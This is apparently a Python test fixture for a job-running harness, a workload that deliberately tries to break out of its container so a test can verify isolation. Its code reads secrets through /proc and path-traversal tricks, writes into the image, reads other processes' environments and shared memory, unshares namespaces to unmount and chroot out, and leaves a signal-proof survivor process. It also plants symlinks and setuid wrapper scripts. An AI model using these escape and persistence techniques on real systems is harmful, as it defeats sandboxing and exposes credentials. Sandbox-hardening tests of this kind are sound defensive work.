"""A task's script that tries to get out of its container, in every attempt anew; attempt 1 prepares attempt 2.

What it reached is written to `outputs/reached.<attempt>.json`; what it wrote outside is found by the test. Its aims are
in `input/aims.json`. It runs in the image, so it needs nothing but Python.
"""

import contextlib
import ctypes
import fcntl
import glob
import json
import os
import shutil
import signal
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

INPUT = Path(os.environ["MLTM_INPUT_DIR"])
TASK = INPUT.parent
ATTEMPT = int(os.environ["MLTM_ATTEMPT"])
OWN = [Path(os.environ["HOME"]), TASK / "outputs", TASK / "checkpoint", TASK / "control" / f"started.{ATTEMPT:02d}"]
PLACES = [*OWN, TASK, TASK / "control", Path("/tmp"), Path("/var/tmp")]
PROGRAMS = ("apptainer", "singularity", "sh", "date", "dd", "mkdir", "sync", "stat", "touch", "rm", "squashfuse_ll")
CLONE_NEWUSER, CLONE_NEWNS, MNT_DETACH, MS_REMOUNT_BIND = 0x10000000, 0x20000, 2, 32 | 4096
AIMS: dict[str, Any] = json.loads((INPUT / "aims.json").read_text())
libc = ctypes.CDLL(None, use_errno=True)


def list_ways(path: str) -> Iterator[str]:
    """The names by which a file of the node might be found."""
    yield path
    up = "/.." * 16
    yield f"{OWN[0]}{up}{path}"
    for pattern in ("root", f"cwd{up}", f"fd/*{up}"):
        yield from (f"{place}{path}" for place in glob.glob(f"/proc/[0-9]*/{pattern}"))  # noqa: PTH207 - with ..
    for place in PLACES:  # a link of attempt 1 that the node has followed
        name = os.path.basename(path)  # noqa: PTH119
        yield from (f"{place}/{name}", *(f"{place}/{link}/{name}" for link in ("tmp", "var_tmp", ".tmp/tmp")))


def try_reads() -> Iterator[str]:
    for name, path in AIMS["read"].items():
        for way in list_ways(path):
            with contextlib.suppress(OSError):
                if Path(way).is_file() and AIMS["secret"] in Path(way).read_text(errors="replace"):
                    yield f"read {name}"
                    break


def try_writes() -> Iterator[str]:
    """Only the test can say which of them changed something outside: some of these folders are there in memory too."""
    for path in AIMS["write"].values():
        for way in list_ways(path):
            with contextlib.suppress(OSError):
                Path(way).write_text(AIMS["written"])
    yield from ()


def try_image() -> Iterator[str]:
    """The image's own files, which every later task runs."""
    for path in ("/usr/bin/python3", "/bin/sh", "/etc/debian_version", "/.singularity.d/env/00-escape.sh", "/escape"):
        with contextlib.suppress(OSError):
            there = Path(path).exists()
            with Path(path).open("a"):
                pass
            yield from [f"could write to {path} of the image"] if there else []


def try_changes_of_what_is_read_only() -> Iterator[str]:
    for path in (INPUT / "entrypoint.py", INPUT / "more.py", Path(os.environ["MLTM_PARAMS"])):
        with contextlib.suppress(OSError), path.open("a") as file:
            file.write("\n")
            yield "changed what is read-only"
        for place in OWN:
            with contextlib.suppress(OSError):
                os.link(path, place / f"hard-{path.name}")
                yield "made a hard link to what is read-only"


def try_processes() -> Iterator[str]:
    for place in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if AIMS["process"] not in (place / "cmdline").read_text():
                continue
            yield "saw a process"
            os.kill(int(place.name), signal.SIGUSR1)
            yield "signalled a process"
            if AIMS["secret"] in (place / "environ").read_text():
                yield "read the variables of a process"


def try_shared_memory() -> Iterator[str]:
    libc.shmat.restype = ctypes.c_void_p
    number = libc.shmget(AIMS["shm_key"], 0, 0)
    address = libc.shmat(number, None, 0) if number >= 0 else None
    if address not in {None, ctypes.c_void_p(-1).value}:
        found = ctypes.string_at(address, len(AIMS["secret"]))
        yield from ["read shared memory"] if found == AIMS["secret"].encode() else []


def try_socket() -> Iterator[str]:
    for way in list_ways(AIMS["socket"]):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as made:
            os.chdir(os.path.dirname(way))  # noqa: PTH120 - a socket's name is short
            made.connect(os.path.basename(way))  # noqa: PTH119
            yield "connected to a socket"
    os.chdir(OWN[0])


def try_within_namespaces() -> Iterator[str]:
    """As root of a user namespace of its own: takes off mounts, makes them writable, leaves by chroot."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        found: list[str] = []
        with contextlib.suppress(BaseException):
            if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
                take_off_mounts()
                found = [
                    each
                    for way in (try_reads, try_writes, try_image, try_changes_of_what_is_read_only)
                    for each in way()
                ]
        os.write(writer, json.dumps(found).encode())
        os._exit(0)
    os.close(writer)
    os.wait()
    yield from (f"{each}, in a namespace" for each in json.loads(os.read(reader, 65536)))


def take_off_mounts() -> None:
    points = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    for point in reversed(points):
        libc.mount(None, point.encode(), None, MS_REMOUNT_BIND, None)
        libc.umount2(point.encode(), MNT_DETACH)
    with contextlib.suppress(OSError):
        os.mkdir("jail")  # noqa: PTH102
        os.chroot("jail")
        os.chdir("/..".lstrip("/") + "/.." * 16)
        os.chroot(".")


def try_survivor() -> Iterator[str]:
    """Whether the process that attempt 1 left still holds its lock."""
    with (TASK / "checkpoint" / "lock").open("a") as file:
        try:
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            yield "left a process behind"


def leave_survivor() -> None:
    """A process in a session of its own, deaf to signals, that holds a lock. The test ends it by a file."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        if os.fork():
            os._exit(0)
        with (TASK / "checkpoint" / "lock").open("a") as file:
            fcntl.flock(file, fcntl.LOCK_EX)
            os.write(writer, b"x")
            give_up = time.monotonic() + 100
            while not (TASK / "checkpoint" / "stop").exists() and time.monotonic() < give_up:
                time.sleep(0.1)
        os._exit(0)
    os.read(reader, 1)


def plant() -> None:
    """Put links, pipes and programs wherever attempt 2 or the agent may look."""
    credential, record = (os.path.dirname(AIMS["read"][name]) for name in ("credential", "record"))  # noqa: PTH120
    for place in PLACES:
        for spot, aim in (("tmp", credential), ("var_tmp", record)):
            for inner in ("", ".tmp", f"tmp.{ATTEMPT + 1:02d}", "work"):
                replace_by_link(place / inner / spot, aim)
        for spot in ("tmp.01", "tmp.02", "logs", "outputs", "checkpoint", f"started.{ATTEMPT + 1:02d}"):
            replace_by_link(place / spot, record)
    for place in OWN:
        replace_by_link(place, record)
        for name in PROGRAMS:
            with contextlib.suppress(OSError):
                shown = shutil.which(name, path="/usr/bin:/bin") or f"/usr/bin/{name}"
                (place / name).write_text(f'#!/bin/sh\necho {name} >>{AIMS["owned"]}\nexec {shown} "$@"\n')
                (place / name).chmod(0o4755)
    (TASK / "control" / f"started.{ATTEMPT:02d}" / "image").unlink(missing_ok=True)
    replace_by_link(TASK / "control" / f"started.{ATTEMPT:02d}" / "image", "/no/such/place")


def replace_by_link(spot: Path, aim: str) -> None:
    for step in (
        lambda: spot.parent.mkdir(parents=True, exist_ok=True),
        lambda: shutil.rmtree(spot) if not spot.is_symlink() and spot not in OWN else spot.unlink(),
        lambda: spot.rename(f"{spot}.old"),
        lambda: spot.symlink_to(aim),
    ):
        with contextlib.suppress(OSError):
            step()


def fill_outputs() -> None:
    """What must not make the agent hang, or hand out something else."""
    outputs = TASK / "outputs"
    os.mkfifo(outputs / "pipe")
    (outputs / "link").symlink_to(AIMS["read"]["credential"])
    (outputs / "folder-link").symlink_to(os.path.dirname(AIMS["read"]["credential"]))  # noqa: PTH120
    (outputs / "two\nlines").write_text("x")
    with socket.socket(socket.AF_UNIX) as made:
        os.chdir(outputs)
        made.bind("socket")
    closed = Path("/tmp/closed/deep")
    closed.mkdir(parents=True, exist_ok=True)
    (closed / "file").write_text("x")
    closed.chmod(0)
    closed.parent.chmod(0)


def main() -> None:
    ways: list[Callable[[], Iterator[str]]] = [
        try_reads, try_writes, try_image, try_changes_of_what_is_read_only, try_processes, try_shared_memory,
        try_socket, try_within_namespaces,
    ]  # fmt: skip
    if ATTEMPT > 1:
        ways.append(try_survivor)
    reached = [found for way in ways for found in way()]
    (TASK / "outputs" / f"reached.{ATTEMPT}.json").write_text(json.dumps(sorted(set(reached))))
    if ATTEMPT == 1:
        leave_survivor()
        plant()
        while AIMS["stays"]:
            time.sleep(1)
    else:
        fill_outputs()


main()
